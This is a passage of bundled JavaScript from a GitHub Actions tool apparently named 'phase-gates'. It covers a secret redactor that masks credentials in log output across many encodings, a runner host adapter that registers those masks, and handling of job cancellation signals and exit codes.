 *   would garble every report.
 * - Each line of a multi-line secret is masked on its own (the runner adds every line: a child
 *   process prints one line at a time), from {@link MIN_LINE} characters: a PEM's lone `}` or `-`
 *   line would otherwise mask punctuation everywhere.
 * - Like the runner's value encoders (src/Sdk/DTLogging/Logging/ValueEncoders.cs at
 *   3f7a01af939560ceb1222bca97d1ca4bee1ed843:
 *   Base64StringEscape and its shifts by one and two bytes, JsonStringEscape, UriDataEscape,
 *   XmlDataEscape, ExpressionStringEscape, TrimDoubleQuotes), a secret is masked in the forms a
 *   script is likely to print it in; beyond them: base64url, form encoding, hex, backslash (shell)
 *   escapes. Encoded forms shorter than {@link MIN_ENCODED} are not registered.
 *
 * Base64 of a secret inside a longer text depends on what precedes it (mod 3 bytes) and on what
 * follows it: for each of the three alignments, only the characters that the secret's own bytes
 * decide are registered (a partial last group is left out), so `base64("user:" + secret)` is masked
 * whatever comes before or after.
 */
/** Header and query parameter names whose values are credentials. */
const SECRET_NAME = /^(authorization|proxy-authorization|cookie|set-cookie)$|token|secret|passw|api[-_]?key|^key$|session|credential|signature|auth/i;
/** Whether a header or query parameter name holds a credential (its value is masked; smoke-test keeps it from other origins). */
function isSecretName(name) {
    return SECRET_NAME.test(name);
}
/** The mask, as the runner prints it. */
const MASK = '***';
/** Shortest encoded form registered: shorter ones would mask ordinary text. */
const MIN_ENCODED = 8;
/** Shortest line of a multi-line secret masked on its own. */
const MIN_LINE = 4;
/** Shortest part of a header or URL registered as a guessed credential. */
const MIN_GUESSED = 3;
/**
 * A value as the masker registers it: trimmed, or undefined when blank. Hosts that register
 * secrets on their own (the runner's `add-mask`) use it too, so the runner's log and our files
 * hide the same thing.
 */
function secretValue(value) {
    const v = value?.trim();
    return v ? v : undefined;
}
function base64Stable(bytes) {
    const out = [];
    for (let shift = 0; shift < 3; shift++) {
        const part = bytes.subarray(shift);
        const whole = part.length - (part.length % 3);
        if (whole === 0)
            continue;
        const b64 = part.subarray(0, whole).toString('base64');
        out.push(b64, b64.replace(/\+/g, '-').replace(/\//g, '_'));
    }
    return out;
}
/** RFC 3986 escaping of every character that is not unreserved, as .NET's Uri.EscapeDataString does. */
function escapeDataString(value) {
    return encodeURIComponent(value).replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`);
}
function xmlEscape(value) {
    return value.replace(/[&<>"']/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&apos;' })[c]);
}
/** The forms a secret is masked in, longest first, raw value included. */
function secretForms(value) {
    const forms = new Set([value]);
    for (const line of value.split(/\r?\n/))
        if (line.trim().length >= MIN_LINE)
            forms.add(line.trim());
    const bytes = Buffer.from(value, 'utf8');
    const encoded = [
        ...base64Stable(bytes),
        JSON.stringify(value).slice(1, -1),
        encodeURIComponent(value),
        escapeDataString(value),
        encodeURIComponent(value).replace(/%20/g, '+'),
        new URLSearchParams({ v: value }).toString().slice(2),
        xmlEscape(value),
        value.replace(/'/g, "''"),
        value.length > 8 && value.startsWith('"') && value.endsWith('"') ? value.slice(1, -1) : '',
        bytes.toString('hex'),
        bytes.toString('hex').toUpperCase(),
        value.replace(/[\\"'$`]/g, '\\$&')
    ];
    for (const form of encoded)
        if (form.length >= MIN_ENCODED)
            forms.add(form);
    return [...forms].sort((a, b) => b.length - a.length);
}
/**
 * Holds the secret values of one run and replaces them, in every form, in text. One per run,
 * shared by everything that run writes; `register` passes each new value on to the host (the
 * runner's `add-mask`, the CLI's own masking).
 */
class Redactor {
    register;
    forms = [];
    raw = [];
    constructor(register = () => undefined) {
        this.register = register;
    }
    /** Registers a secret (trimmed; blank ones are not secrets) with its encoded forms, whatever its length. */
    add(value) {
        const v = secretValue(value);
        if (!v || this.raw.includes(v))
            return;
        this.raw.push(v);
        for (const form of secretForms(v))
            if (!this.forms.includes(form))
                this.forms.push(form);
        this.forms.sort((a, b) => b.length - a.length);
        this.register(v);
    }
    /** A part guessed to be a credential: registered from {@link MIN_GUESSED} characters. */
    guess(value) {
        const v = secretValue(value);
        if (v && v.length >= MIN_GUESSED)
            this.add(v);
    }
    /** A header value, when its name holds a credential: the whole of it, and the credential after an auth scheme (`Bearer x` → `x`) or in a cookie. */
    addHeader(name, value) {
        if (!isSecretName(name))
            return;
        this.guess(value);
        const m = /^\s*[A-Za-z][\w-]*\s+(\S.*)$/.exec(value);
        if (m && /^(authorization|proxy-authorization)$/i.test(name))
            this.guess(m[1]);
        if (/cookie/i.test(name))
            for (const part of value.split(';'))
                this.guess(part.split('=').slice(1).join('='));
    }
    /** Registers a URL's user, password and credential-named query values; returns the URL with them masked. */
    maskUrl(url) {
        let u;
        try {
            u = new URL(url);
        }
        catch {
            return this.redact(url);
        }
        if (u.password)
            this.guess(decodeURIComponent(u.password));
        if (u.username)
            this.guess(decodeURIComponent(u.username));
        for (const [k, v] of u.searchParams)
            if (isSecretName(k))
                this.guess(v);
        if (u.username || u.password) {
            u.username = '';
            u.password = '';
            return this.redact(u.href.replace('://', '://***@'));
        }
        return this.redact(u.href);
    }
    /** `text` with every registered form replaced by {@link MASK}. */
    redact(text) {
        let s = text;
        for (const form of this.forms)
            if (s.includes(form))
                s = s.split(form).join(MASK);
        return s;
    }
    /** A copy of a JSON value with every string redacted. */
    redactDeep(value) {
        if (typeof value === 'string')
            return this.redact(value);
        if (Array.isArray(value))
            return value.map((v) => this.redactDeep(v));
        if (value !== null && typeof value === 'object') {
            return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, this.redactDeep(v)]));
        }
        return value;
    }
    /** Whether `text` holds a registered secret in any form. */
    holdsSecret(text) {
        return this.forms.some((form) => text.includes(form));
    }
    /** Length of the longest registered form (0 without secrets). */
    longest() {
        return this.forms[0]?.length ?? 0;
    }
    /** Every form, for hosts that mask on their own (the runner's log). */
    values() {
        return this.forms;
    }
}

;// CONCATENATED MODULE: ./.build/src/host/actions-host.js
/** The Host of a runner step: what the runner expects (INPUT_*, GITHUB_OUTPUT, GITHUB_STEP_SUMMARY), written as `@actions/core` writes it. */



class ActionsHost {
    workspace;
    env = process.env;
    constructor() {
        this.workspace = process.env.GITHUB_WORKSPACE || process.cwd();
    }
    getInput(name) {
        return getInput(name);
    }
    setOutput(name, value) {
        setOutput(name, value);
    }
    async appendSummary(markdown) {
        if (!process.env.GITHUB_STEP_SUMMARY) {
            this.debug('GITHUB_STEP_SUMMARY is not set: no job summary written');
            return;
        }
        await appendSummary(process.env.GITHUB_STEP_SUMMARY, markdown);
    }
    annotate(level, message, props = {}) {
        annotate(level, message, props);
    }
    info(message) {
        process.stdout.write(message + external_node_os_.EOL);
    }
    debug(message) {
        issueCommand('debug', {}, message);
    }
    /** Registers the secret with the runner, by the shared masker's rules and in each form it knows (the runner adds its own). */
    setSecret(value) {
        const v = secretValue(value);
        if (!v)
            return;
        issueCommand('add-mask', {}, v);
        for (const form of secretForms(v))
            if (form !== v)
                issueCommand('add-mask', {}, form);
    }
}


/***/ }),

/***/ 4956:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  d: () => (/* binding */ runCommand)
});

// UNUSED EXPORTS: ExitCode

// EXTERNAL MODULE: ./.build/src/core/errors.js
var errors = __webpack_require__(6512);
// EXTERNAL MODULE: ./.build/src/core/early-signals-key.js
var early_signals_key = __webpack_require__(6554);
;// CONCATENATED MODULE: ./.build/src/core/cancel.js
/**
 * Cancellation as the runner does it: a cancelled job's step gets SIGINT, then SIGTERM, then
 * SIGKILL a few seconds apart. Commands turn the first signal into an aborted AbortSignal (its
 * `reason` is the signal's name), stop what runs, record that they were cancelled, and end.
 */


/** A run stopped by cancellation. One line, exit 1, like any error a user sees. */
class Cancelled extends errors/* UserError */.y {
    signalName;
    constructor(signalName, message) {
        super(`cancelled (${signalName}): ${message}`);
        this.signalName = signalName;
        this.name = 'Cancelled';
    }
}
/** The name of the signal that aborted `signal` ("a signal" when it was aborted otherwise). */
function signalName(signal) {
    return typeof signal.reason === 'string' ? signal.reason : 'a signal';
}
const SIGNALS = ['SIGINT', 'SIGTERM'];
/**
 * Takes SIGINT and SIGTERM over from the start-up handlers of src/host/early-signals.ts: `handler`
 * gets every later signal, and at once each one received before (a cancel during start-up is not
 * lost). The returned function gives them back to the start-up handlers, which keep what comes after.
 */
function claimSignals(handler) {
    const early = globalThis[early_signals_key/* EARLY_SIGNALS */._];
    for (const name of SIGNALS) {
        process.on(name, handler);
        if (early)
            process.off(name, early.handler);
    }
    for (const name of early?.pending.splice(0) ?? [])
        handler(name);
    return () => {
        for (const name of SIGNALS) {
            process.off(name, handler);
            if (early)
                process.on(name, early.handler);
        }
    };
}
/**
 * Aborts the returned signal on the first SIGINT or SIGTERM of this process (also one received
 * during start-up, before this was called), after calling `first` (synchronously: the runner's
 * SIGKILL may follow in seconds). Later signals are ignored, so that the run can finish recording.
 * `dispose` removes the handlers.
 */
function onCancel(first = () => undefined) {
    const controller = new AbortController();
    const dispose = claimSignals((name) => {
        if (controller.signal.aborted)
            return;
        first(name);
        controller.abort(name);
    });
    return { signal: controller.signal, dispose };
}
/** Waits `ms`, or throws {@link Cancelled} as soon as `signal` is aborted. */
function sleepUnlessCancelled(ms, signal, what) {
    if (!signal)
        return new Promise((resolve) => setTimeout(resolve, ms));
    if (signal.aborted)
        return Promise.reject(new Cancelled(signalName(signal), what));
    return new Promise((resolve, reject) => {
        const onAbort = () => {
            clearTimeout(timer);
            reject(new Cancelled(signalName(signal), what));
        };
        const timer = setTimeout(() => {
            signal.removeEventListener('abort', onAbort);
            resolve();
        }, ms);
        signal.addEventListener('abort', onAbort, { once: true });
    });
}

;// CONCATENATED MODULE: ./.build/src/host/run.js
/**
 * How entries end: a user error prints its lines (`::error::` in the actions) and exits 1 with no
 * stack trace; a failed verdict prints its reason and exits 1; anything else is an internal error,
 * whose stack is shown only in debug output.
 */


const ExitCode = { Ok: 0, Failed: 1 };
/**
 * Runs a command on a host and returns the exit code; never throws. A command that does not handle
 * cancellation itself (`handlesCancel` false: it has nothing to record or clean up) ends at the
 * first SIGINT or SIGTERM, also one received during start-up, with one error line and exit 1.
 */
async function runCommand(host, command, handlesCancel = false) {
    const release = handlesCancel
        ? undefined
        : claimSignals((name) => {
            host.annotate('error', `cancelled (${name})`);
            process.exit(ExitCode.Failed);
        });
    try {
        const result = await command(host);
        if (!result.ok) {
            host.annotate('error', result.message ?? 'failed');
            return ExitCode.Failed;
        }
        return ExitCode.Ok;
    }
    catch (err) {
        if (err instanceof errors/* UserError */.y) {
            for (const line of err.renderAll())
                host.annotate('error', line);
            return ExitCode.Failed;
        }
        const e = err;
        host.annotate('error', `internal error: ${e?.message ?? String(err)} (a bug in phase-gates: please report it; debug output shows the stack)`.replace(/[\r\n]+/g, ' '));
        host.debug(e?.stack ?? String(err));
        return ExitCode.Failed;
    }
    finally {
        release?.();
    }
}


/***/ })

};
